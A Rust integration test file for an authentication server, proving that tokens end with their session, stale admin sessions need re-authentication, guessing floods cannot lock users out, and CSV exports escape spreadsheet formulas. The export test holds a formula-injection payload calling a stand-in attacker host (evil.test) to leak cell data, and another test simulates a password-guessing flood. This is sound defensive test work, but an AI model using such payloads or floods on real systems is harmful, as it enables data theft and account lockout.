//! Security, round three (SECURITY 32–37): tokens that outlive their
//! session, stale administrator sessions, lockout as a weapon, formulas in
//! exports, files others may read, and the API document's last gaps. Each
//! test is named after the item it proves and attacks the way an attacker
//! would: the refresh token kept after everything that should end it, an
//! administrator's session left open, guesses from many clients on two
//! instances, a display name that is a formula.

use crate::harness::{
    Api, PASSWORD, Resp, Server, all_users, create_user, set_policy, token_of, two_factor,
    with_admin, with_admin_env,
};
use crate::receivers::{SmsGateway, SmtpSink};
use openidconnect::PkceCodeChallenge;
use serde_json::{Value, json};
use std::time::Duration;

const CALLBACK: &str = "http://localhost:9/callback";

/// An application registered in `dir`: (client_id, secret).
async fn application(admin: &Api, dir: &str) -> (String, String) {
    let r = admin
        .post(
            &format!("/api/admin/directories/{dir}/clients"),
            json!({"name": "Wiki", "redirect_uris": [CALLBACK]}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    (
        r.json["client"]["client_id"].as_str().unwrap().to_owned(),
        r.json["client_secret"].as_str().unwrap().to_owned(),
    )
}

/// A token request of the application `(id, secret)` with `form`.
async fn token_request(server: &Server, app: &(String, String), form: &[(&str, &str)]) -> Resp {
    let (id, secret) = app.clone();
    let form: Vec<(String, String)> = form
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect();
    server
        .client()
        .raw(move |h, b| {
            h.post(format!("{b}/oauth2/token"))
                .basic_auth(id, Some(secret))
                .form(&form)
        })
        .await
}

/// The tokens an application gets through code + PKCE for the session the
/// logged-in `browser` holds: (access token, refresh token).
async fn code_and_pkce(server: &Server, browser: &Api, app: &(String, String)) -> (String, String) {
    let (challenge, verifier) = PkceCodeChallenge::new_random_sha256();
    let r = browser
        .get(&format!(
            "/oauth2/authorize?response_type=code&client_id={}&redirect_uri={}&scope=openid&state=s&code_challenge={}&code_challenge_method=S256",
            app.0,
            CALLBACK.replace(':', "%3A").replace('/', "%2F"),
            challenge.as_str()
        ))
        .await;
    let location = r
        .headers
        .get("location")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    assert!(location.starts_with(CALLBACK), "{} {location}", r.status);
    let code = location
        .split(['?', '&'])
        .find_map(|p| p.strip_prefix("code="))
        .expect("a code")
        .to_owned();
    let r = token_request(
        server,
        app,
        &[
            ("grant_type", "authorization_code"),
            ("code", &code),
            ("redirect_uri", CALLBACK),
            ("code_verifier", verifier.secret()),
        ],
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text);
    (
        r.json["access_token"].as_str().unwrap().to_owned(),
        r.json["refresh_token"].as_str().unwrap().to_owned(),
    )
}

/// A refresh with `refresh`.
async fn refresh(server: &Server, app: &(String, String), refresh: &str) -> Resp {
    token_request(
        server,
        app,
        &[("grant_type", "refresh_token"), ("refresh_token", refresh)],
    )
    .await
}

/// The userinfo endpoint's status for `access`.
async fn userinfo(server: &Server, access: &str) -> u16 {
    let bearer = format!("Bearer {access}");
    server
        .client()
        .raw(move |h, b| {
            h.get(format!("{b}/oauth2/userinfo"))
                .header("authorization", bearer)
        })
        .await
        .status
}

/// A browser logged in as `name` (password-only).
async fn logged_in(server: &Server, name: &str, password: &str) -> Api {
    let b = server.client();
    let r = b.password_login(name, password).await;
    assert_eq!(r.json["status"], "complete", "{}", r.text);
    b
}

/// Asserts that `event` ended the tokens of `(access, refresh)`: the refresh
/// answers `invalid_grant`, and the access token no longer works.
async fn assert_ended(
    server: &Server,
    app: &(String, String),
    tokens: &(String, String),
    event: &str,
) {
    let r = refresh(server, app, &tokens.1).await;
    assert_eq!(
        (r.status, r.json["error"].as_str().unwrap_or("")),
        (400, "invalid_grant"),
        "after {event}, the refresh token still works: {}",
        r.text
    );
    assert_eq!(
        userinfo(server, &tokens.0).await,
        401,
        "after {event}, the access token still works at userinfo"
    );
}

/// SECURITY 33: a refresh token and the access tokens of its family end
/// with the session they were issued from — logout, the user's ending of
/// one session or of the others, an administrator's end of the user's
/// sessions — and with a new password or a finished setup link; a
/// refresh never outlives the session's absolute limit. Meanwhile a
/// refresh rotates, and a step-up of the session keeps its tokens.
#[tokio::test]
async fn security_33_tokens_end_with_the_session_and_the_credentials_that_issued_them() {
    let (server, admin, dir) = with_admin(&[]).await;
    let app = application(&admin, &dir).await;
    let olga = create_user(&server, &admin, &dir, json!({"username": "olga"})).await;

    // Working tokens: a refresh rotates, and the new ones work.
    let s1 = logged_in(&server, "olga", PASSWORD).await;
    let first = code_and_pkce(&server, &s1, &app).await;
    assert_eq!(userinfo(&server, &first.0).await, 200);
    let r = refresh(&server, &app, &first.1).await;
    assert_eq!(r.status, 200, "{}", r.text);
    let rotated = (
        r.json["access_token"].as_str().unwrap().to_owned(),
        r.json["refresh_token"].as_str().unwrap().to_owned(),
    );
    assert_eq!(userinfo(&server, &rotated.0).await, 200);
    // Logging in again in the same browser (as a step-up does) keeps the
    // session, and so its tokens.
    assert_eq!(
        s1.password_login("olga", PASSWORD).await.json["status"],
        "complete"
    );
    let r = refresh(&server, &app, &rotated.1).await;
    assert_eq!(r.status, 200, "a login again ended the tokens: {}", r.text);
    let kept = (
        r.json["access_token"].as_str().unwrap().to_owned(),
        r.json["refresh_token"].as_str().unwrap().to_owned(),
    );

    // The user ends their other sessions.
    let s2 = logged_in(&server, "olga", PASSWORD).await;
    assert_eq!(
        s2.post("/api/me/sessions/end-others", json!({}))
            .await
            .status,
        204
    );
    assert_ended(&server, &app, &kept, "ending the other sessions").await;

    // The user ends one session by its id.
    let s3 = logged_in(&server, "olga", PASSWORD).await;
    let tokens = code_and_pkce(&server, &s3, &app).await;
    let list = s2.get("/api/me/sessions").await;
    let id = list
        .json
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["current"] == false)
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(
        s2.delete(&format!("/api/me/sessions/{id}")).await.status,
        204
    );
    assert_ended(&server, &app, &tokens, "ending that session").await;

    // An administrator ends the user's sessions.
    let s4 = logged_in(&server, "olga", PASSWORD).await;
    let tokens = code_and_pkce(&server, &s4, &app).await;
    assert_eq!(
        admin
            .delete(&format!("/api/admin/users/{olga}/sessions"))
            .await
            .status,
        204
    );
    assert_ended(&server, &app, &tokens, "an administrator's end of sessions").await;

    // The user logs out.
    let s5 = logged_in(&server, "olga", PASSWORD).await;
    let tokens = code_and_pkce(&server, &s5, &app).await;
    assert_eq!(s5.post("/api/logout", json!({})).await.status, 204);
    assert_ended(&server, &app, &tokens, "logout").await;

    // A new password, from another session (which stays).
    let s6 = logged_in(&server, "olga", PASSWORD).await;
    let tokens = code_and_pkce(&server, &s6, &app).await;
    let s7 = logged_in(&server, "olga", PASSWORD).await;
    let r = s7
        .post(
            "/api/me/password",
            json!({"new_password": "a brand new passphrase"}),
        )
        .await;
    assert_eq!(r.status, 204, "{}", r.text);
    assert_ended(&server, &app, &tokens, "a password change").await;

    // A finished setup link.
    let s8 = logged_in(&server, "olga", "a brand new passphrase").await;
    let tokens = code_and_pkce(&server, &s8, &app).await;
    let r = admin
        .post(&format!("/api/admin/users/{olga}/setup-link"), json!({}))
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    let setup = server.client();
    let token = token_of(r.json["url"].as_str().unwrap());
    assert_eq!(
        setup
            .post("/api/setup", json!({"token": token}))
            .await
            .status,
        200
    );
    assert_eq!(setup.post("/api/setup/finish", json!({})).await.status, 204);
    assert_ended(&server, &app, &tokens, "a finished setup link").await;
}

/// SECURITY 33: tokens never outlive the absolute limit of the session
/// they came from, however often they are refreshed.
#[tokio::test]
async fn security_33_a_refresh_never_outlives_the_sessions_absolute_limit() {
    let (server, admin, dir) = with_admin(&[("AUTHLEVEL_SESSION_ABSOLUTE_TIMEOUT_S", "4")]).await;
    let app = application(&admin, &dir).await;
    create_user(&server, &admin, &dir, json!({"username": "olga"})).await;
    let s = logged_in(&server, "olga", PASSWORD).await;
    let tokens = code_and_pkce(&server, &s, &app).await;
    let r = refresh(&server, &app, &tokens.1).await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert!(
        r.json["expires_in"].as_i64().unwrap() <= 4,
        "an access token beyond the session's limit: {}",
        r.text
    );
    let tokens = (
        r.json["access_token"].as_str().unwrap().to_owned(),
        r.json["refresh_token"].as_str().unwrap().to_owned(),
    );
    tokio::time::sleep(Duration::from_secs(5)).await;
    assert_ended(&server, &app, &tokens, "the session's absolute limit").await;
}

/// Every administrative write in the document, with its path filled in.
fn admin_writes(doc: &Value, fill: impl Fn(&str) -> String) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for (path, item) in doc["paths"].as_object().unwrap() {
        if !path.starts_with("/api/admin/") {
            continue;
        }
        for method in ["post", "put", "patch", "delete"] {
            if item.get(method).is_some() {
                out.push((method.to_uppercase(), fill(path)));
            }
        }
    }
    out
}

/// SECURITY 34: with an administrator's session older than the
/// re-authentication window, every administrative write the document
/// lists is refused with `reauth_required`; and the administrator's own
/// account is not changed through the administration routes, however
/// fresh the login: no setup link for it, no email set on it.
#[tokio::test]
async fn security_34_admin_writes_need_a_fresh_session_and_never_the_own_account() {
    let (server, admin, dir) = with_admin(&[("AUTHLEVEL_REAUTH_WINDOW_S", "3")]).await;
    let app = application(&admin, &dir).await;
    let bob = create_user(&server, &admin, &dir, json!({"username": "bob"})).await;
    let me = admin.get("/api/session").await.json["user_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let doc = server.client().get("/api/openapi.json").await.json;

    // Fresh (logged in just now): the own account is refused all the same,
    // whatever the route.
    assert_eq!(
        admin.password_login("admin", PASSWORD).await.json["status"],
        "complete"
    );
    let r = admin
        .post(&format!("/api/admin/users/{me}/setup-link"), json!({}))
        .await;
    assert_eq!((r.status, r.code()), (403, "own_account"), "{}", r.text);
    let r = admin
        .patch(
            &format!("/api/admin/users/{me}"),
            json!({"email": "mine@evil.test"}),
        )
        .await;
    assert_eq!((r.status, r.code()), (403, "own_account"), "{}", r.text);
    let own = admin_writes(&doc, |p| {
        p.replace("/users/{id}", &format!("/users/{me}"))
            .replace("{id}", &dir)
    });
    let own: Vec<_> = own
        .into_iter()
        .filter(|(_, p)| p.contains(&format!("/users/{me}")))
        .collect();
    assert!(own.len() >= 6, "{own:?}");
    for (method, path) in &own {
        let r = admin.send(method, path, Some(json!({}))).await;
        assert_eq!(
            (r.status, r.code()),
            (403, "own_account"),
            "{method} {path}: {}",
            r.text
        );
    }
    let mine = admin.get(&format!("/api/admin/users/{me}")).await;
    assert_eq!(mine.status, 200, "reading the own account stays open");
    assert!(mine.json["email"].is_null(), "{}", mine.text);

    // Stale: every write is refused until the administrator logs in again.
    tokio::time::sleep(Duration::from_secs(4)).await;
    let writes = admin_writes(&doc, |p| {
        p.replace("/users/{id}", &format!("/users/{bob}"))
            .replace("/clients/{id}", &format!("/clients/{}", app.0))
            .replace("{id}", &dir)
    });
    assert!(writes.len() >= 14, "{writes:?}");
    for (method, path) in &writes {
        let r = admin.send(method, path, Some(json!({}))).await;
        assert_eq!(
            (r.status, r.code()),
            (403, "reauth_required"),
            "{method} {path} with a stale session: {}",
            r.text
        );
    }
    assert_eq!(
        admin.get(&format!("/api/admin/users/{bob}")).await.status,
        200,
        "reading needs no fresh login"
    );
    // Logged in again, the same writes go through.
    assert_eq!(
        admin.password_login("admin", PASSWORD).await.json["status"],
        "complete"
    );
    let r = admin
        .post(&format!("/api/admin/users/{bob}/setup-link"), json!({}))
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
}

/// SECURITY 35: whoever opened an earlier setup link keeps nothing of it
/// once a new link is issued, the user finishes a setup, or the user logs
/// in normally.
#[tokio::test]
async fn security_35_a_setup_link_supersedes_the_earlier_ones_and_their_enrolments() {
    let (server, admin, dir) = with_admin(&[]).await;
    let bob = create_user(&server, &admin, &dir, json!({"username": "bob"})).await;
    let link = async || {
        let r = admin
            .post(&format!("/api/admin/users/{bob}/setup-link"), json!({}))
            .await;
        assert_eq!(r.status, 200, "{}", r.text);
        token_of(r.json["url"].as_str().unwrap())
    };
    let open = async |token: String| {
        let holder = server.client();
        let r = holder.post("/api/setup", json!({"token": token})).await;
        assert_eq!(r.status, 200, "{}", r.text);
        holder
    };
    let set_password = async |holder: &Api| {
        holder
            .post(
                "/api/me/password",
                json!({"new_password": "the holder's own password"}),
            )
            .await
    };

    // A leaked link L1 is opened; the administrator issues L2.
    let thief = open(link().await).await;
    let l2 = link().await;
    let r = set_password(&thief).await;
    assert_eq!(r.status, 401, "L1's enrolment outlived L2: {}", r.text);

    // L2 is opened, and the user logs in normally meanwhile.
    let thief = open(l2).await;
    assert_eq!(
        server.client().password_login("bob", PASSWORD).await.json["status"],
        "complete"
    );
    let r = set_password(&thief).await;
    assert_eq!(r.status, 401, "an enrolment outlived a login: {}", r.text);

    // L3 is opened and used; once its holder finishes, its enrolment can do
    // nothing more.
    let holder = open(link().await).await;
    let r = set_password(&holder).await;
    assert_eq!(r.status, 204, "{}", r.text);
    assert_eq!(
        holder.post("/api/setup/finish", json!({})).await.status,
        204
    );
    assert_eq!(set_password(&holder).await.status, 401);
    // No one set Bob's password but the holder of the live link.
    assert_eq!(
        server
            .client()
            .password_login("bob", "the holder's own password")
            .await
            .json["status"],
        "complete"
    );
}

/// A password step of `name` from a client at `ip` (behind the trusted
/// proxy the test server believes).
async fn step_from(browser: &Api, ip: &str, name: &str, password: &str) -> Resp {
    let body = json!({"username": name, "password": password});
    crate::harness::post_from(browser, ip, "/api/login/password", body).await
}

/// SECURITY 32 (and 7): four clients on two instances guess Rita's
/// password for ten seconds. A browser she logged in from before passes
/// the password step with the right one all the while, and earns no
/// points for being known; a new browser is held with the right password;
/// she is told once; a known browser's cookie used for wrong guesses is
/// void after its own limit; an administrator's unlock lets her in again.
#[tokio::test]
async fn security_32_a_guessing_flood_cannot_keep_a_user_out_of_a_known_browser() {
    let sms = SmsGateway::start().await;
    let smtp = SmtpSink::start();
    let mut env: Vec<(&str, String)> = sms.env();
    env.extend(smtp.env());
    env.extend([
        ("AUTHLEVEL_TRUSTED_PROXIES", "127.0.0.1".into()),
        ("AUTHLEVEL_FAILURE_LIMIT", "10".into()),
        ("AUTHLEVEL_KNOWN_BROWSER_FAILURE_LIMIT", "5".into()),
        ("AUTHLEVEL_PASSWORD_HASH_CONCURRENCY", "4".into()),
        // The lockout is what this attacks, not the per-name rate limit.
        (
            "AUTHLEVEL_LOGIN_ATTEMPTS_PER_ACCOUNT_PER_MINUTE",
            "0".into(),
        ),
        ("AUTHLEVEL_SECRET_KEY", "cd".repeat(32)),
    ]);
    let (a, admin, dir) = with_admin_env(&env).await;
    let b = Server::start_sharing(&a, &[]);
    let rita = create_user(
        &a,
        &admin,
        &dir,
        json!({"username": "rita", "phone": "+41791234567", "email": "rita@example.com"}),
    )
    .await;
    set_policy(&admin, &dir, two_factor()).await;
    // Two browsers Rita logged in from (password and SMS), then logged out.
    let mut known = Vec::new();
    for ip in ["198.51.100.7", "198.51.100.8"] {
        let browser = a.client();
        let r = step_from(&browser, ip, "rita", PASSWORD).await;
        assert_eq!(r.json["status"], "in_progress", "{}", r.text);
        assert_eq!(
            browser.post("/api/login/sms/send", json!({})).await.status,
            200
        );
        let code = sms.last_to("+41791234567").code();
        let r = browser
            .post("/api/login/sms/verify", json!({"code": code}))
            .await;
        assert_eq!(r.json["status"], "complete", "{}", r.text);
        assert!(
            r.set_cookies()
                .iter()
                .any(|c| c.starts_with("authlevel_known=") && c.contains("HttpOnly")),
            "{:?}",
            r.set_cookies()
        );
        assert_eq!(browser.post("/api/logout", json!({})).await.status, 204);
        known.push((browser, ip));
    }

    // The flood: four clients, on both instances, for ten seconds.
    let flood_until = std::time::Instant::now() + Duration::from_secs(10);
    let attackers: Vec<_> = (0..4)
        .map(|i| {
            let c = if i % 2 == 0 { a.client() } else { b.client() };
            tokio::spawn(async move {
                let ip = format!("203.0.113.{}", 10 + i);
                let mut sent = 0;
                while std::time::Instant::now() < flood_until {
                    let r = step_from(&c, &ip, "rita", &format!("guess {i}-{sent}")).await;
                    assert_ne!(r.json["status"], "complete");
                    sent += 1;
                }
                sent
            })
        })
        .collect();
    tokio::time::sleep(Duration::from_secs(3)).await;
    let locked_at = crate::attacks::unix_now();
    // A new browser with the right password is held.
    let new = step_from(&a.client(), "192.0.2.50", "rita", PASSWORD).await;
    assert_eq!(new.status, 401, "a new browser got through: {}", new.text);
    // The known browser passes the password step, again and again, on both
    // instances; being known earns nothing (20 of 30: SMS is still asked).
    let (browser, ip) = &known[0];
    for server in [&a, &b, &a] {
        let r = step_from(&browser.to(server), ip, "rita", PASSWORD).await;
        assert_eq!(
            r.status, 200,
            "the known browser was held by the flood: {}",
            r.text
        );
        assert_eq!(r.json["status"], "in_progress", "{}", r.text);
        assert_eq!(r.json["progress"]["earned"], 20, "{}", r.text);
        assert_eq!(r.json["progress"]["verified"], json!(["password"]));
        assert_eq!(browser.post("/api/logout", json!({})).await.status, 204);
    }
    let mut guesses = 0;
    for t in attackers {
        guesses += t.await.unwrap();
    }
    assert!(guesses >= 20, "the flood sent only {guesses} guesses");

    // Told once, by email, that someone tried.
    let told = smtp
        .all()
        .into_iter()
        .filter(|m| m.data.contains("Someone tried to log in"))
        .count();
    assert_eq!(told, 1, "lock notices: {told}");
    assert!(crate::attacks::unix_now() - locked_at < 900);

    // The other known browser guesses wrong: after its own limit (5) its
    // cookie is void, and the right password is held like a stranger's.
    let (thief, ip) = &known[1];
    for i in 0..5 {
        let r = step_from(thief, ip, "rita", &format!("stolen cookie {i}")).await;
        assert_eq!(r.status, 401);
    }
    let r = step_from(thief, ip, "rita", PASSWORD).await;
    assert_eq!(
        r.status, 401,
        "a void known-browser cookie got through: {}",
        r.text
    );

    // An administrator's unlock: a new browser gets in again. (Under
    // two-factor the administrator's password alone is no fresh login: the
    // operator lowers the level at the console while they act.)
    crate::harness::set_policy_cli(&a, &["--preset", "password-only"]);
    assert_eq!(
        admin.password_login("admin", PASSWORD).await.json["status"],
        "complete"
    );
    assert_eq!(
        admin
            .post(&format!("/api/admin/users/{rita}/unlock"), json!({}))
            .await
            .status,
        204
    );
    crate::harness::set_policy_cli(&a, &["--preset", "two-factor"]);
    let r = step_from(&a.client(), "192.0.2.51", "rita", PASSWORD).await;
    assert_eq!(r.json["status"], "in_progress", "{}", r.text);
    // Rita sees the browsers she is known in, and forgets one.
    let listed = logged_in_rita(&known[0].0, &sms).await;
    let list = listed.get("/api/me/browsers").await;
    let list = list.json.as_array().unwrap().clone();
    assert_eq!(list.len(), 1, "the void one is not listed: {list:?}");
    assert_eq!(list[0]["current"], true);
    let id = list[0]["id"].as_str().unwrap();
    assert_eq!(
        listed
            .delete(&format!("/api/me/browsers/{id}"))
            .await
            .status,
        204
    );
    assert_eq!(
        listed.get("/api/me/browsers").await.json,
        json!([]),
        "forgotten"
    );
}

/// Completes a login of Rita (password and SMS) in `browser`.
async fn logged_in_rita(browser: &Api, sms: &SmsGateway) -> Api {
    let r = browser.password_login("rita", PASSWORD).await;
    assert_eq!(r.json["status"], "in_progress", "{}", r.text);
    assert_eq!(
        browser.post("/api/login/sms/send", json!({})).await.status,
        200
    );
    let code = sms.last_to("+41791234567").code();
    let r = browser
        .post("/api/login/sms/verify", json!({"code": code}))
        .await;
    assert_eq!(r.json["status"], "complete", "{}", r.text);
    browser.clone()
}

/// SECURITY 36: display names and phone numbers a spreadsheet would run
/// are exported prefixed with `'`; an import of the export changes
/// nothing.
#[tokio::test]
async fn security_36_exports_are_safe_to_open_in_a_spreadsheet() {
    let (server, admin, dir) = with_admin(&[]).await;
    let names = [
        "=HYPERLINK(\"https://evil.test/?\"&D2,\"update\")",
        "+1",
        "-1",
        "@SUM(1)",
        "'=already quoted",
        "Ann 'Annie' Smith",
    ];
    for (i, name) in names.iter().enumerate() {
        let r = admin
            .post(
                &format!("/api/admin/directories/{dir}/users"),
                json!({"username": format!("u{i}"), "display_name": name, "phone": "+31612345678"}),
            )
            .await;
        assert_eq!(r.status, 201, "{name}: {}", r.text);
    }
    // A user sets a formula as their own display name.
    let sam = create_user(&server, &admin, &dir, json!({"username": "sam"})).await;
    let s = logged_in(&server, "sam", PASSWORD).await;
    let r = s.patch("/api/me", json!({"display_name": "=1+1"})).await;
    assert_eq!(r.status, 200, "{}", r.text);
    let before = all_users(&admin, &dir).await;
    let export = admin
        .get(&format!("/api/admin/directories/{dir}/users/export"))
        .await;
    assert_eq!(export.status, 200);
    for line in export.text.lines().skip(1) {
        for cell in split_csv(line) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']),
                "a cell a spreadsheet runs: {cell:?} in {line:?}"
            );
        }
    }
    assert!(export.text.contains("'+31612345678"), "{}", export.text);
    assert!(export.text.contains("'=1+1"), "{}", export.text);
    assert!(export.text.contains("''=already quoted"), "{}", export.text);
    let r = admin
        .raw(|h, b| {
            h.post(format!(
                "{b}/api/admin/directories/{dir}/users/import?update=true"
            ))
            .header("content-type", "text/csv")
            .body(export.text.clone())
        })
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    let after = all_users(&admin, &dir).await;
    assert_eq!(before, after, "export, then import, changed users");
    let sam = admin.get(&format!("/api/admin/users/{sam}")).await;
    assert_eq!(sam.json["display_name"], "=1+1");
}

/// The cells of one CSV line (quotes as the csv crate writes them).
fn split_csv(line: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cells.last_mut().unwrap().push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => cells.push(String::new()),
            (c, _) => cells.last_mut().unwrap().push(c),
        }
    }
    cells
}

/// The permission bits of `path`.
fn mode(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o777
}

/// SECURITY 37: started under umask 022 with a data folder that does not
/// exist yet, the server makes the folder 0700 and the database, its
/// `-wal` and `-shm` files and the key file 0600; a backup is 0600; a
/// database an earlier version left 0644 is made 0600 at the next start.
/// (Files: SQLite whichever backend the suite runs on.)
#[tokio::test]
async fn security_37_files_that_hold_secrets_are_readable_by_their_owner_only() {
    let root = tempfile::tempdir().unwrap();
    let data = root.path().join("data");
    let db = data.join("authlevel.db");
    let key = data.join("authlevel.key");
    let port = crate::harness::free_port();
    let run = |args: &[&str]| {
        let mut cmd = std::process::Command::new("sh");
        cmd.arg("-c")
            .arg("umask 022; exec \"$0\" \"$@\"")
            .arg(crate::harness::binary())
            .args(args)
            .current_dir(root.path())
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .env(
                "AUTHLEVEL_DATABASE_URL",
                format!("sqlite://{}", db.display()),
            )
            .env("AUTHLEVEL_KEY_FILE", &key)
            .env("AUTHLEVEL_LISTEN", format!("127.0.0.1:{port}"))
            .env("AUTHLEVEL_PUBLIC_URL", format!("http://localhost:{port}"))
            .env("AUTHLEVEL_STATIC_DIR", root.path().join("no-dist"));
        cmd
    };
    let start = || {
        let mut child = run(&["serve"])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + Duration::from_secs(30);
        while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(
                std::time::Instant::now() < deadline,
                "the server did not start"
            );
            if let Ok(Some(status)) = child.try_wait() {
                panic!("the server exited: {status}");
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        child
    };
    let mut server = start();
    // A write, so the WAL and its index exist.
    let r = Api::at(&format!("http://127.0.0.1:{port}"))
        .password_login("nobody", "not a password at all")
        .await;
    assert_eq!(r.status, 401);
    assert_eq!(mode(&data), 0o700, "the data folder");
    for f in [&db, &key] {
        assert_eq!(mode(f), 0o600, "{}", f.display());
    }
    for suffix in ["-wal", "-shm"] {
        let f = data.join(format!("authlevel.db{suffix}"));
        assert_eq!(mode(&f), 0o600, "{}", f.display());
    }
    let backup = root.path().join("backup.db");
    let out = run(&["admin", "backup", backup.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(mode(&backup), 0o600, "the backup");
    let _ = server.kill();
    let _ = server.wait();

    // A database left readable to others by an earlier version.
    use std::os::unix::fs::PermissionsExt;
    for f in [&db, &key] {
        std::fs::set_permissions(f, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    let mut server = start();
    for f in [&db, &key] {
        assert_eq!(mode(f), 0o600, "{} at the next start", f.display());
    }
    let _ = server.kill();
    let _ = server.wait();
}

/// Item 7: a body over `max_body_bytes` is declared (413) on every
/// operation that takes one; an import whose first line names no usable
/// columns is refused whole (422 `invalid_csv`), and nothing is created.
#[tokio::test]
async fn item_7_every_body_declares_413_and_an_import_without_a_header_is_refused_whole() {
    let (_server, admin, dir) = with_admin(&[]).await;
    let doc = admin.get("/api/openapi.json").await.json;
    let mut with_body = 0;
    for (path, item) in doc["paths"].as_object().unwrap() {
        for (method, op) in item.as_object().unwrap() {
            if op.get("requestBody").is_some() {
                with_body += 1;
                assert!(
                    op["responses"].get("413").is_some(),
                    "{method} {path} takes a body but declares no 413"
                );
            }
        }
    }
    assert!(with_body > 20, "{with_body}");
    let import = format!("/api/admin/directories/{dir}/users/import");
    assert!(
        doc["paths"][&import.replace(&dir, "{id}")]["post"]["responses"]
            .get("422")
            .is_some()
    );
    for body in [
        "{}",
        "name,mail\nzed,zed@example.com\n",
        "display_name\nZed\n",
        "",
    ] {
        let r = admin
            .raw(|h, b| {
                h.post(format!("{b}{import}"))
                    .header("content-type", "text/csv")
                    .body(body)
            })
            .await;
        assert_eq!(
            (r.status, r.code()),
            (422, "invalid_csv"),
            "{body:?}: {}",
            r.text
        );
        assert!(r.content_type().starts_with("application/problem+json"));
    }
    assert_eq!(
        all_users(&admin, &dir).await.len(),
        1,
        "nothing was created"
    );
}
